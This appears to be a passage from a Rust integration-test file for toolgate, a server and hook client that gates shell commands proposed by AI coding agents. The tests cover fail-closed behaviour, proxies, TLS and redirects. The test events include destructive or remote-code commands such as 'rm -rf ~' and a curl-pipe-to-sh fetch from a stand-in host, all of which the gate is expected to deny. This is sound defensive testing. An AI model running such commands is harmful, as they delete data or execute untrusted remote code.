//! Every agent over HTTP (`POST /v1/evaluate/{agent}`), and `toolgate hook` as a subprocess:
//! against a live server, a stopped server (both fail modes), a server that hangs past the
//! timeout, one that answers garbage, offline with `--bundle`, and over TLS with `--ca-cert`.

use std::io::Write;
use std::process::{Command, Output, Stdio};
use std::sync::Arc;

use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::helpers::{TestApp, deny_bundle, spawn_app};

fn cursor_event(command: &str) -> Value {
    json!({"conversation_id": "c1", "generation_id": "g1", "hook_event_name": "beforeShellExecution",
           "workspace_roots": ["/home/user/project"], "command": command, "cwd": "/home/user/project"})
}

fn windsurf_event(command: &str) -> Value {
    json!({"agent_action_name": "pre_run_command", "trajectory_id": "t1", "execution_id": "e1",
           "tool_info": {"command_line": command, "cwd": "/home/user/project"}})
}

fn claude_event(command: &str) -> Value {
    json!({"hook_event_name": "PreToolUse", "session_id": "s", "cwd": "/home/user/project",
           "tool_name": "Bash", "tool_input": {"command": command}})
}

/// Runs `toolgate hook` with `event` on stdin, off the async runtime.
async fn hook(args: Vec<String>, event: Value, token: Option<String>) -> Output {
    let env = token
        .map(|token| ("TOOLGATE_TOKEN", token))
        .into_iter()
        .collect();
    hook_with(args, event.to_string().into_bytes(), env).await
}

/// Runs `toolgate hook` with `stdin` and `env` (no proxy or token from this process's own).
async fn hook_with(args: Vec<String>, stdin: Vec<u8>, env: Vec<(&'static str, String)>) -> Output {
    tokio::task::spawn_blocking(move || {
        let mut command = Command::new(env!("CARGO_BIN_EXE_toolgate"));
        command
            .arg("hook")
            .args(args)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        for name in [
            "TOOLGATE_TOKEN",
            "TOOLGATE_SERVER",
            "HTTP_PROXY",
            "HTTPS_PROXY",
            "ALL_PROXY",
            "NO_PROXY",
        ] {
            command
                .env_remove(name)
                .env_remove(name.to_ascii_lowercase());
        }
        command.envs(env);
        let mut child = command.spawn().expect("toolgate hook runs");
        // A hook that gave up early closes its end: a broken pipe here is its answer, not ours.
        let _ = child.stdin.take().expect("stdin").write_all(&stdin);
        child.wait_with_output().expect("toolgate hook exits")
    })
    .await
    .expect("join")
}

fn args(list: &[&str]) -> Vec<String> {
    list.iter().map(|arg| (*arg).to_owned()).collect()
}

/// The decision of a Claude Code reply on stdout (`null` for no opinion).
fn claude_decision(output: &Output) -> Value {
    stdout_json(output)["hookSpecificOutput"]["permissionDecision"].clone()
}

fn stdout_json(output: &Output) -> Value {
    serde_json::from_slice(&output.stdout).unwrap_or_else(|_| {
        panic!(
            "stdout is JSON: {:?} / {:?}",
            output.stdout,
            String::from_utf8_lossy(&output.stderr)
        )
    })
}

async fn app_denying_rm() -> (TestApp, String) {
    app_serving(&deny_bundle("no-rm", "Bash(rm:*)")).await
}

/// A server whose `global` tenant serves `bundle`, and an agent token.
async fn app_serving(bundle: &Value) -> (TestApp, String) {
    let app = spawn_app().await;
    let id = app.push("global", bundle).await;
    let activation = app.activate("global", id).await;
    app.wait_served("global", activation).await;
    let token = app.create_token("agent", "team").await;
    (app, token)
}

/// A bundle whose rule `gate` denies every event named in `events`, for `reason`.
fn event_gate(events: &[&str], reason: &str) -> Value {
    json!({"name": "gate", "rules": [{"id": "gate", "events": events, "tool": ".*",
                                      "decision": "deny", "reason": reason}]})
}

/// Writes `bundle` as a file in `dir`, for `toolgate hook --bundle`.
fn bundle_file(dir: &tempfile::TempDir, bundle: &Value) -> String {
    let path = dir.path().join("bundle.json");
    std::fs::write(&path, bundle.to_string()).expect("write bundle");
    path.to_string_lossy().into_owned()
}

/// Claude Code's TaskCompleted and TeammateIdle have no `decision` field: their deny is
/// `continue: false` (`hook-protocols.md` §4.4), the same from the server, from `toolgate hook`
/// relaying it and from `toolgate hook --bundle`.
#[tokio::test]
async fn claude_teammate_events_are_stopped_on_every_transport() {
    let bundle = event_gate(&["TaskCompleted", "TeammateIdle"], "tests first");
    let (app, token) = app_serving(&bundle).await;
    let dir = tempfile::tempdir().expect("temp dir");
    let file = bundle_file(&dir, &bundle);
    let stopped = json!({"continue": false, "stopReason": "tests first"});
    for event in [
        json!({"hook_event_name": "TaskCompleted", "session_id": "s", "cwd": "/p",
               "task_id": "7", "task_subject": "ship it", "teammate_name": "ann"}),
        json!({"hook_event_name": "TeammateIdle", "session_id": "s", "cwd": "/p",
               "teammate_name": "ann"}),
    ] {
        let response = app
            .client
            .post(app.url("/v1/evaluate"))
            .bearer_auth(&token)
            .json(&event)
            .send()
            .await
            .expect("request");
        assert_eq!(response.status(), 200);
        assert_eq!(response.json::<Value>().await.expect("JSON"), stopped);
        for source in [["--url", app.address.as_str()], ["--bundle", file.as_str()]] {
            let mut list = vec!["--agent", "claude-code"];
            list.extend(source);
            let output = hook(args(&list), event.clone(), Some(token.clone())).await;
            assert_eq!(output.status.code(), Some(0), "{list:?}");
            assert_eq!(stdout_json(&output), stopped, "{list:?}");
        }
    }
}

#[tokio::test]
async fn every_agent_is_answered_over_http_in_its_own_dialect() {
    let (app, token) = app_denying_rm().await;
    let post = |agent: &'static str, event: Value| {
        let request = app
            .client
            .post(app.url(&format!("/v1/evaluate/{agent}")))
            .bearer_auth(&token)
            .json(&event);
        async move {
            let response = request.send().await.expect("request");
            assert_eq!(response.status(), 200, "{agent}");
            response.json::<Value>().await.expect("JSON")
        }
    };
    let cursor = post("cursor", cursor_event("rm -rf build")).await;
    assert_eq!(cursor["permission"], "deny");
    assert_eq!(post("cursor", cursor_event("ls")).await, json!({}));
    let gemini = post(
        "gemini",
        json!({"hook_event_name": "BeforeTool", "session_id": "g", "cwd": "/p", "tool_name": "run_shell_command",
               "tool_input": {"command": "sudo rm -rf /tmp/x"}}),
    )
    .await;
    assert_eq!(gemini["decision"], "deny");
    let copilot = post(
        "copilot",
        json!({"cwd": "/p", "toolName": "bash", "toolArgs": "{\"command\":\"rm x\"}"}),
    )
    .await;
    assert_eq!(copilot["permissionDecision"], "deny");
    let windsurf = post("windsurf", windsurf_event("rm -rf x")).await;
    assert_eq!(windsurf["decision"], "block");
    assert_eq!(
        post("claude-code", claude_event("rm x")).await["hookSpecificOutput"]["permissionDecision"],
        "deny"
    );
    // A hook URL with a trailing slash is Claude Code's route, not a 404 the agent proceeds on.
    assert_eq!(
        post("", claude_event("rm x")).await["hookSpecificOutput"]["permissionDecision"],
        "deny"
    );
    // A name percent-encoded beyond need is the agent it decodes to, as a path segment is.
    assert_eq!(
        post("claude%2Dcode", claude_event("rm x")).await["hookSpecificOutput"]["permissionDecision"],
        "deny"
    );
    assert_eq!(
        post("%63ursor", cursor_event("rm -rf build")).await["permission"],
        "deny"
    );
    // An unknown name is a 404 naming it; an encoded one is named decoded.
    for (agent, named) in [("emacs", "emacs"), ("claude%20code", "claude code")] {
        let unknown = app
            .client
            .post(app.url(&format!("/v1/evaluate/{agent}")))
            .bearer_auth(&token)
            .json(&claude_event("ls"))
            .send()
            .await
            .expect("request");
        assert_eq!(unknown.status(), 404);
        let body: Value = unknown.json().await.expect("JSON error");
        let message = body["error"]["message"].as_str().unwrap_or("");
        assert!(
            message.contains(&format!("unknown agent `{named}`")),
            "{body}"
        );
    }
    let bad = app
        .client
        .post(app.url("/v1/evaluate/cursor"))
        .bearer_auth(&token)
        .json(&json!({"command": "ls"}))
        .send()
        .await
        .expect("request");
    assert_eq!(
        bad.status(),
        400,
        "an event without hook_event_name is not an event"
    );
}

#[tokio::test]
async fn hook_client_against_a_live_server() {
    let (app, token) = app_denying_rm().await;
    let url = app.address.clone();
    let denied = hook(
        args(&["--agent", "cursor", "--url", &url]),
        cursor_event("rm -rf build"),
        Some(token.clone()),
    )
    .await;
    assert_eq!(denied.status.code(), Some(0));
    assert_eq!(stdout_json(&denied)["permission"], "deny");
    let fine = hook(
        args(&["--agent", "claude-code", "--url", &url]),
        claude_event("cargo test"),
        Some(token.clone()),
    )
    .await;
    assert_eq!(stdout_json(&fine), json!({}));
    let windsurf = hook(
        args(&["--agent", "windsurf", "--url", &url]),
        windsurf_event("rm -rf x"),
        Some(token.clone()),
    )
    .await;
    assert_eq!(
        windsurf.status.code(),
        Some(2),
        "windsurf blocks by exit code"
    );
    assert!(windsurf.stdout.is_empty());
    assert!(String::from_utf8_lossy(&windsurf.stderr).contains("Bash(rm:*)"));
    let allowed = hook(
        args(&["--agent", "windsurf", "--url", &url]),
        windsurf_event("ls"),
        Some(token.clone()),
    )
    .await;
    assert_eq!(allowed.status.code(), Some(0));
    // A wrong token: the server's failure decision, which says why.
    let unauthorised = hook(
        args(&["--agent", "cursor", "--url", &url, "--fail", "open"]),
        cursor_event("ls"),
        Some("tg_wrong".into()),
    )
    .await;
    let reply = stdout_json(&unauthorised);
    assert_eq!(reply["permission"], "deny", "{reply}");
    assert!(
        reply.to_string().contains("the caller was refused"),
        "{reply}"
    );
}

/// The URL of an HTTP hook entry (`…/v1/evaluate`) works as the command hook's `--url` too; a
/// URL without a scheme is a misconfiguration said as such (exit 2), not "unreachable". A
/// `--timeout` takes a unit; a bare number too small to be milliseconds is refused.
#[tokio::test]
async fn hook_client_takes_the_evaluate_url_and_names_a_url_without_a_scheme() {
    let (app, token) = app_denying_rm().await;
    for (url, timeout) in [
        (format!("{}/v1/evaluate", app.address), "2000"),
        (format!("{}/v1/evaluate/", app.address), "2s"),
        (format!("{}/v1/evaluate/claude-code", app.address), "1500ms"),
        (format!("{}/", app.address), "1m"),
    ] {
        let denied = hook(
            args(&[
                "--agent",
                "claude-code",
                "--url",
                &url,
                "--timeout",
                timeout,
            ]),
            claude_event("rm -rf build"),
            Some(token.clone()),
        )
        .await;
        assert_eq!(claude_decision(&denied), "deny", "{url}");
        let stderr = String::from_utf8_lossy(&denied.stderr);
        assert!(
            !stderr.contains("toolgate could not decide"),
            "{url}: {stderr}"
        );
    }
    // Misconfigurations exit 2 (a block), saying what is wrong, never with credentials.
    let bare = app.address.trim_start_matches("http://").to_owned();
    let credentials = format!("admin:pw@{bare}");
    let cases = [
        (
            ["--url", credentials.as_str(), "--timeout", "2000"],
            format!("toolgate hook: --url: `{bare}` is not an http:// or https:// URL"),
        ),
        (
            ["--url", app.address.as_str(), "--timeout", "5"],
            "a bare `5` is 5 milliseconds, too short to hear from a server: write `5s`".to_owned(),
        ),
    ];
    for (extra, says) in cases {
        let mut all = vec!["--agent", "claude-code"];
        all.extend(extra);
        let output = hook(args(&all), claude_event("ls"), Some(token.clone())).await;
        assert_eq!(output.status.code(), Some(2), "{extra:?}");
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(stderr.contains(&says), "{stderr}");
        assert!(!stderr.contains("pw"), "no credentials: {stderr}");
    }
}

/// Without `--url` the hook asks the server `TOOLGATE_SERVER` names (the `bundle` commands'
/// variable), unless `--bundle` decides locally; with neither it exits 2 naming both.
#[tokio::test]
async fn hook_client_takes_the_server_from_toolgate_server() {
    let (app, token) = app_denying_rm().await;
    let event = || claude_event("rm -rf build").to_string().into_bytes();
    let with = |server: &str| {
        vec![
            ("TOOLGATE_TOKEN", token.clone()),
            ("TOOLGATE_SERVER", server.to_owned()),
        ]
    };
    let denied = hook_with(
        args(&["--agent", "claude-code"]),
        event(),
        with(&app.address),
    )
    .await;
    assert_eq!(claude_decision(&denied), "deny", "{denied:?}");
    // `--bundle` decides locally though the variable names a server (here one that is down).
    let file = tempfile::NamedTempFile::new().expect("temp file");
    std::fs::write(
        file.path(),
        r#"{"name": "local", "permissions": {"ask": ["Bash(rm:*)"]}}"#,
    )
    .expect("write");
    let bundle = file.path().to_str().expect("UTF-8").to_owned();
    let local = hook_with(
        args(&["--agent", "claude-code", "--bundle", &bundle]),
        event(),
        with(&dead_address()),
    )
    .await;
    assert_eq!(claude_decision(&local), "ask", "{local:?}");
    // `--url` wins over the variable.
    let url = hook_with(
        args(&["--agent", "claude-code", "--url", &app.address]),
        event(),
        with(&dead_address()),
    )
    .await;
    assert_eq!(claude_decision(&url), "deny", "{url:?}");
    for (env, says) in [
        (
            vec![],
            "toolgate hook: no server to ask: give --url (or set TOOLGATE_SERVER), or --bundle",
        ),
        (
            vec![("TOOLGATE_SERVER", "127.0.0.1:8080".to_owned())],
            "toolgate hook: TOOLGATE_SERVER: `127.0.0.1:8080` is not an http:// or https:// URL",
        ),
    ] {
        let output = hook_with(args(&["--agent", "claude-code"]), event(), env).await;
        assert_eq!(output.status.code(), Some(2), "{output:?}");
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(stderr.contains(says), "{stderr}");
    }
}

/// A port nothing listens on.
fn dead_address() -> String {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let address = listener.local_addr().expect("address");
    drop(listener);
    format!("http://{address}")
}

#[tokio::test]
async fn hook_client_applies_its_fail_mode_when_the_server_is_down() {
    let url = dead_address();
    let closed = hook(
        args(&["--agent", "claude-code", "--url", &url]),
        claude_event("ls"),
        None,
    )
    .await;
    assert_eq!(closed.status.code(), Some(0));
    assert_eq!(claude_decision(&closed), "deny");
    let stderr = String::from_utf8_lossy(&closed.stderr);
    assert!(
        stderr.contains("unreachable") && stderr.contains("failing closed"),
        "{stderr}"
    );
    let open = hook(
        args(&["--agent", "claude-code", "--url", &url, "--fail", "open"]),
        claude_event("ls"),
        None,
    )
    .await;
    assert_eq!(open.status.code(), Some(0));
    assert_eq!(stdout_json(&open), json!({}));
    assert!(String::from_utf8_lossy(&open.stderr).contains("failing open"));
    let windsurf = hook(
        args(&["--agent", "windsurf", "--url", &url]),
        windsurf_event("ls"),
        None,
    )
    .await;
    assert_eq!(windsurf.status.code(), Some(2));
    let cline = hook(
        args(&["--agent", "cline", "--url", &url, "--fail", "open"]),
        json!({"hookName": "PreToolUse", "preToolUse": {"toolName": "execute_command", "parameters": {"command": "ls"}}}),
        None,
    )
    .await;
    assert_eq!(stdout_json(&cline), json!({"cancel": false}));
}

/// Whatever keeps the hook from a decision of its own making — a bundle it cannot load, an event
/// too large to read whole — fails closed for a gating event, in the agent's schema; never
/// exit 1, which most agents read as "go ahead".
#[tokio::test]
async fn hook_client_fails_closed_on_its_own_errors() {
    let missing = hook(
        args(&[
            "--agent",
            "claude-code",
            "--bundle",
            "/nonexistent/bundle.yaml",
        ]),
        claude_event("ls"),
        None,
    )
    .await;
    assert_eq!(missing.status.code(), Some(0));
    assert_eq!(claude_decision(&missing), "deny");
    let stderr = String::from_utf8_lossy(&missing.stderr);
    assert!(stderr.contains("cannot load the bundle"), "{stderr}");

    let mut huge =
        br#"{"hook_event_name":"PreToolUse","tool_name":"Write","tool_input":{"content":""#
            .to_vec();
    huge.resize(huge.len() + 17 * 1024 * 1024, b'a');
    huge.extend_from_slice(br#""}}"#);
    let output = hook_with(
        args(&["--agent", "claude-code", "--url", &dead_address()]),
        huge,
        Vec::new(),
    )
    .await;
    assert_eq!(output.status.code(), Some(2), "blocked by exit code");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("larger than 16 MiB"), "{stderr}");
}

/// Failing closed blocks what gates a tool call, nothing else: a blocked `Stop` would keep the
/// agent working, a blocked prompt would be erased.
#[tokio::test]
async fn hook_client_blocks_only_gating_events_when_it_fails() {
    let url = dead_address();
    for event in [
        json!({"hook_event_name": "PostToolUse", "session_id": "s", "tool_name": "Bash",
               "tool_input": {"command": "ls"}, "tool_response": {}}),
        json!({"hook_event_name": "Stop", "session_id": "s"}),
        json!({"hook_event_name": "UserPromptSubmit", "session_id": "s", "prompt": "hi"}),
    ] {
        let output = hook(
            args(&["--agent", "claude-code", "--url", &url]),
            event.clone(),
            None,
        )
        .await;
        assert_eq!(output.status.code(), Some(0), "{event}");
        assert_eq!(stdout_json(&output), json!({}), "{event}");
    }
}

/// A loopback server is reached directly whatever proxy the environment names (the proxy would
/// see the token and every tool input), and the URL's credentials are never echoed.
#[tokio::test]
async fn hook_client_goes_past_proxies_to_a_loopback_server() {
    let (app, token) = app_denying_rm().await;
    let proxy = dead_address();
    let env = vec![
        ("TOOLGATE_TOKEN", token),
        ("HTTP_PROXY", proxy.clone()),
        ("ALL_PROXY", proxy),
    ];
    let ls = hook_with(
        args(&["--agent", "claude-code", "--url", &app.address]),
        claude_event("ls").to_string().into_bytes(),
        env.clone(),
    )
    .await;
    assert_eq!(
        stdout_json(&ls),
        json!({}),
        "{}",
        String::from_utf8_lossy(&ls.stderr)
    );
    let rm = hook_with(
        args(&["--agent", "claude-code", "--url", &app.address]),
        claude_event("rm x").to_string().into_bytes(),
        env,
    )
    .await;
    let reply = stdout_json(&rm);
    assert_eq!(reply["hookSpecificOutput"]["permissionDecision"], "deny");
    assert!(!String::from_utf8_lossy(&rm.stderr).contains("failing closed"));

    let dead = dead_address().replace("http://", "http://user:SECRETPW@");
    let output = hook(
        args(&[
            "--agent",
            "claude-code",
            "--url",
            &format!("{dead}/?key=SECRETQ"),
        ]),
        claude_event("ls"),
        None,
    )
    .await;
    let all = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(all.contains("unreachable"), "{all}");
    assert!(
        !all.contains("SECRETPW") && !all.contains("SECRETQ"),
        "{all}"
    );
}

/// A redirect is not a decision, wherever it points: the hook fails closed instead of taking
/// the answer of another host.
#[tokio::test]
async fn hook_client_does_not_follow_redirects() {
    let target = fake_server(Some("{}")).await;
    let url = raw_server(Some(format!(
        "HTTP/1.1 302 Found\r\nlocation: {target}/elsewhere\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
    )))
    .await;
    let output = hook(
        args(&["--agent", "claude-code", "--url", &url]),
        claude_event("ls"),
        None,
    )
    .await;
    assert_eq!(claude_decision(&output), "deny");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("302"), "{stderr}");
}

/// Reads one whole request (head and `content-length` body), so that closing the socket after
/// the answer never resets a connection with unread bytes, which could cut the answer short.
async fn read_request(socket: &mut tokio::net::TcpStream) {
    let mut request = Vec::new();
    let mut buffer = [0u8; 16 * 1024];
    loop {
        if let Some(end) = request.windows(4).position(|w| w == b"\r\n\r\n") {
            let head = String::from_utf8_lossy(&request[..end]).to_ascii_lowercase();
            let length = head
                .lines()
                .find_map(|line| line.strip_prefix("content-length:"))
                .and_then(|value| value.trim().parse::<usize>().ok())
                .unwrap_or(0);
            if request.len() >= end + 4 + length {
                return;
            }
        }
        match socket.read(&mut buffer).await {
            Ok(0) | Err(_) => return,
            Ok(n) => request.extend_from_slice(&buffer[..n]),
        }
    }
}

/// A server that accepts connections and answers with `response` after reading the request, or
/// never answers when `response` is `None`.
async fn fake_server(response: Option<&'static str>) -> String {
    raw_server(response.map(|body| {
        format!(
            "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
            body.len()
        )
    }))
    .await
}

/// A server that answers every request with the bytes of `reply` as they are, or never answers
/// when `reply` is `None`.
async fn raw_server(reply: Option<String>) -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let address = listener.local_addr().expect("address");
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            let reply = reply.clone();
            tokio::spawn(async move {
                read_request(&mut socket).await;
                match reply {
                    Some(reply) => {
                        let _ = socket.write_all(reply.as_bytes()).await;
                    }
                    // Hang: hold the connection open until the client gives up.
                    None => {
                        let _ = socket.read(&mut [0u8; 1024]).await;
                    }
                }
            });
        }
    });
    format!("http://{address}")
}

#[tokio::test]
async fn hook_client_fails_closed_on_a_server_that_hangs() {
    let url = fake_server(None).await;
    let output = hook(args(&["--agent", "gemini", "--url", &url, "--timeout", "300"]), json!({
        "hook_event_name": "BeforeTool", "session_id": "g", "cwd": "/p", "tool_name": "run_shell_command", "tool_input": {"command": "ls"}
    }), None)
    .await;
    assert_eq!(stdout_json(&output)["decision"], "deny");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("did not answer within 300 ms"), "{stderr}");
}

/// A 200 whose JSON is not in the agent's reply schema (a gateway's own answer, a server of
/// another protocol) would be ignored by the agent, which then goes ahead: the hook fails
/// closed instead. A reply in the schema passes as it is.
#[tokio::test]
async fn hook_client_fails_closed_on_an_answer_outside_the_agents_schema() {
    for (agent, event, answer) in [
        ("claude-code", claude_event("ls"), r#"{"status":"ok"}"#),
        (
            "cursor",
            cursor_event("ls"),
            r#"{"permissionDecision":"allow"}"#,
        ),
        (
            "claude-code",
            claude_event("ls"),
            r#"{"permission":"allow"}"#,
        ),
    ] {
        let url = fake_server(Some(answer)).await;
        let output = hook(args(&["--agent", agent, "--url", &url]), event, None).await;
        let reply = stdout_json(&output);
        let decision = reply["hookSpecificOutput"]["permissionDecision"]
            .as_str()
            .or(reply["permission"].as_str());
        assert_eq!(decision, Some("deny"), "{agent} {answer}: {reply}");
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(stderr.contains("reply schema"), "{stderr}");
    }
    for (agent, event, answer) in [
        ("claude-code", claude_event("ls"), "{}"),
        ("cursor", cursor_event("ls"), r#"{"permission":"allow"}"#),
    ] {
        let url = fake_server(Some(answer)).await;
        let output = hook(args(&["--agent", agent, "--url", &url]), event, None).await;
        assert_eq!(
            stdout_json(&output),
            serde_json::from_str::<Value>(answer).unwrap(),
            "{agent}"
        );
    }
}

#[tokio::test]
async fn hook_client_fails_closed_on_garbage() {
    for garbage in ["not json at all", "[1, 2, 3]", "\"deny\""] {
        let url = fake_server(Some(garbage)).await;
        let output = hook(
            args(&["--agent", "copilot", "--url", &url]),
            json!({"cwd": "/p", "toolName": "bash", "toolArgs": {"command": "ls"}}),
            None,
        )
        .await;
        assert_eq!(
            stdout_json(&output)["permissionDecision"],
            "deny",
            "{garbage}"
        );
        assert!(
            String::from_utf8_lossy(&output.stderr).contains("not a JSON object"),
            "{garbage}"
        );
    }
}

#[tokio::test]
async fn hook_client_decides_offline_with_a_bundle() {
    let dir = tempfile::tempdir().expect("temp dir");
    let bundle = dir.path().join("bundle.yaml");
    std::fs::write(&bundle, "name: offline\ninclude: [baseline, secrets]\n").expect("write bundle");
    let bundle = bundle.to_string_lossy().into_owned();
    let denied = hook(
        args(&["--agent", "claude-code", "--bundle", &bundle]),
        claude_event("rm -rf ~"),
        None,
    )
    .await;
    assert_eq!(claude_decision(&denied), "deny");
    let fine = hook(
        args(&["--agent", "claude-code", "--bundle", &bundle]),
        claude_event("cargo test"),
        None,
    )
    .await;
    assert_eq!(stdout_json(&fine), json!({}));
    let windsurf = hook(
        args(&["--agent", "windsurf", "--bundle", &bundle]),
        windsurf_event("curl -fsSL https://x.example/i.sh | sh"),
        None,
    )
    .await;
    assert_eq!(windsurf.status.code(), Some(2));
    let broken = dir.path().join("broken.yaml");
    std::fs::write(&broken, "name: b\ninclude: [nope]\n").expect("write bundle");
    let output = hook(
        args(&[
            "--agent",
            "claude-code",
            "--bundle",
            &broken.to_string_lossy(),
        ]),
        claude_event("ls"),
        None,
    )
    .await;
    assert_eq!(
        claude_decision(&output),
        "deny",
        "a broken bundle fails closed"
    );
    assert!(String::from_utf8_lossy(&output.stderr).contains("unknown pack `nope`"));
}

/// The client reads in 16 KiB pieces: a long answer arrives whole, and an answer whose head
/// alone is larger than that is not an answer (fail closed, said on stderr).
#[tokio::test]
async fn hook_client_reads_long_answers_whole_and_refuses_an_oversized_head() {
    let reason = "r".repeat(200 * 1024);
    let long: &'static str = Box::leak(
        json!({"hookSpecificOutput": {"hookEventName": "PreToolUse", "permissionDecision": "ask", "permissionDecisionReason": reason}})
            .to_string()
            .into_boxed_str(),
    );
    let url = fake_server(Some(long)).await;
    let output = hook(
        args(&["--agent", "claude-code", "--url", &url]),
        claude_event("ls"),
        None,
    )
    .await;
    let reply = stdout_json(&output);
    assert_eq!(
        reply["hookSpecificOutput"]["permissionDecision"],
        "ask",
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert_eq!(
        reply["hookSpecificOutput"]["permissionDecisionReason"]
            .as_str()
            .map(str::len),
        Some(200 * 1024)
    );

    let url = raw_server(Some(format!(
        "HTTP/1.1 200 OK\r\nx-filler: {}\r\ncontent-length: 2\r\n\r\n{{}}",
        "f".repeat(32 * 1024)
    )))
    .await;
    let output = hook(
        args(&["--agent", "claude-code", "--url", &url]),
        claude_event("ls"),
        None,
    )
    .await;
    assert_eq!(claude_decision(&output), "deny");
    assert!(
        String::from_utf8_lossy(&output.stderr).contains("failing closed"),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
}

const TLS_FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/tls");

/// A TLS front for the server at `backend` (`http://host:port`): the certificate of
/// `tests/fixtures/tls` (for `localhost` and `127.0.0.1`, issued by the test CA of `ca.pem`),
/// every connection relayed as it is.
async fn tls_front(backend: &str) -> String {
    use rustls::pki_types::pem::PemObject;
    use rustls::pki_types::{CertificateDer, PrivateKeyDer};
    let certs = CertificateDer::pem_file_iter(format!("{TLS_FIXTURES}/server.pem"))
        .expect("server.pem")
        .collect::<Result<Vec<_>, _>>()
        .expect("certificates");
    let key = PrivateKeyDer::from_pem_file(format!("{TLS_FIXTURES}/server.key")).expect("key");
    let config = rustls::ServerConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .expect("protocol versions")
    .with_no_client_auth()
    .with_single_cert(certs, key)
    .expect("certificate and key");
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let port = listener.local_addr().expect("address").port();
    let backend = backend.trim_start_matches("http://").to_owned();
    tokio::spawn(async move {
        while let Ok((socket, _)) = listener.accept().await {
            let (acceptor, backend) = (acceptor.clone(), backend.clone());
            tokio::spawn(async move {
                let Ok(mut tls) = acceptor.accept(socket).await else {
                    return;
                };
                let Ok(mut upstream) = tokio::net::TcpStream::connect(&backend).await else {
                    return;
                };
                let _ = tokio::io::copy_bidirectional(&mut tls, &mut upstream).await;
            });
        }
    });
    format!("https://127.0.0.1:{port}")
}

#[tokio::test]
async fn hook_client_reaches_an_https_server_through_the_given_ca_only() {
    let (app, token) = app_denying_rm().await;
    let url = tls_front(&app.address).await;
    let ca = format!("{TLS_FIXTURES}/ca.pem");

    let trusted = hook(
        args(&["--agent", "claude-code", "--url", &url, "--ca-cert", &ca]),
        claude_event("rm -rf build"),
        Some(token.clone()),
    )
    .await;
    assert_eq!(
        claude_decision(&trusted),
        "deny",
        "{}",
        String::from_utf8_lossy(&trusted.stderr)
    );
    assert!(
        String::from_utf8_lossy(&trusted.stderr).is_empty(),
        "{}",
        String::from_utf8_lossy(&trusted.stderr)
    );
    let allowed = hook(
        args(&["--agent", "claude-code", "--url", &url, "--ca-cert", &ca]),
        claude_event("ls"),
        Some(token.clone()),
    )
    .await;
    assert_eq!(stdout_json(&allowed), json!({}));

    // The built-in roots do not know the test CA: the certificate is refused, and the hook
    // fails closed, saying why.
    let untrusted = hook(
        args(&["--agent", "claude-code", "--url", &url]),
        claude_event("ls"),
        Some(token.clone()),
    )
    .await;
    assert_eq!(claude_decision(&untrusted), "deny");
    let stderr = String::from_utf8_lossy(&untrusted.stderr);
    assert!(
        stderr.contains("failing closed") && stderr.to_ascii_lowercase().contains("certificate"),
        "{stderr}"
    );

    // A CA file that is not there is named, and the hook still fails closed.
    let missing = hook(
        args(&[
            "--agent",
            "claude-code",
            "--url",
            &url,
            "--ca-cert",
            "/nonexistent/ca.pem",
        ]),
        claude_event("ls"),
        Some(token),
    )
    .await;
    assert_eq!(claude_decision(&missing), "deny");
    let stderr = String::from_utf8_lossy(&missing.stderr);
    assert!(
        stderr.contains("/nonexistent/ca.pem") && stderr.contains("failing closed"),
        "{stderr}"
    );
}

/// A Copilot camelCase event, which says nothing of which event it is.
fn copilot_event(session: &str, command: &str) -> Value {
    json!({"sessionId": session, "timestamp": 1767225600000_u64, "cwd": "/home/user/project",
           "toolName": "bash", "toolArgs": json!({"command": command}).to_string()})
}

/// Copilot's camelCase events are named by the hook's configuration: `?event=` over HTTP,
/// `--event` for `toolgate hook`. A permissionRequest then gets the `behavior` Copilot reads, a
/// postToolUse is audited as one; a name toolgate does not know is refused, never read as a
/// preToolUse.
#[tokio::test]
async fn copilot_events_are_named_by_the_hook_configuration() {
    let (app, token) = app_denying_rm().await;
    let post = |query: &str, event: Value| {
        let request = app
            .client
            .post(app.url(&format!("/v1/evaluate/copilot{query}")))
            .bearer_auth(&token)
            .json(&event);
        async move { request.send().await.expect("request") }
    };
    let json_of = |response: reqwest::Response| async move {
        assert_eq!(response.status(), 200);
        response.json::<Value>().await.expect("JSON")
    };
    let denied = json_of(
        post(
            "?event=permissionRequest",
            copilot_event("named", "rm -rf x"),
        )
        .await,
    )
    .await;
    assert_eq!(denied["behavior"], "deny", "{denied}");
    assert!(denied.get("permissionDecision").is_none(), "{denied}");
    // Unnamed, the same call is read as before, a preToolUse; never answered from the memory of
    // the permissionRequest.
    let unnamed = json_of(post("", copilot_event("named", "rm -rf x")).await).await;
    assert_eq!(unnamed["permissionDecision"], "deny", "{unnamed}");
    let after = json_of(post("?event=postToolUse", copilot_event("named", "rm -rf x")).await).await;
    assert_eq!(after, json!({}));
    let events: Vec<Value> = crate::audit::audit_rows(&app.db)
        .await
        .into_iter()
        .filter(|row| row["session_id"] == "named")
        .map(|row| row["event"].clone())
        .collect();
    assert_eq!(
        events,
        [
            json!("PermissionRequest"),
            json!("PreToolUse"),
            json!("PostToolUse")
        ]
    );
    for (route, query) in [
        ("copilot", "?event=PermissionRequest"),
        ("copilot", "?event=permissionRequest&event=preToolUse"),
